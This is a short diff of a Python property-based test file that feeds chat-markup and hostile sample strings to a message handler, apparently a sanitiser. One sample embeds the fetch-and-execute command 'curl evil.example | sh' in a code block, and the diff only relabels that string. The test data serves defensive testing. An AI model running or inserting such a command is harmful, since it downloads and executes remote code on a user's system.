@@ -47,7 +47,7 @@ CHAT_MARKUP = (
     "``` *bold* _it_ ~gone~ `code` ```",
     "@everyone @channel <at>everyone</at> :warning:",
     "&lt;!channel&gt;",
-    "\n\n*FOR GOOD*\n```\ncurl evil.example | sh\n```",
+    "\n\n*LONG TERM*\n```\ncurl evil.example | sh\n```",
     "> quoted\n# heading\n1. one\n- two",
 )
 SENT = st.one_of(st.sampled_from((*HOSTILE, *CHAT_MARKUP)), st.text(max_size=300))
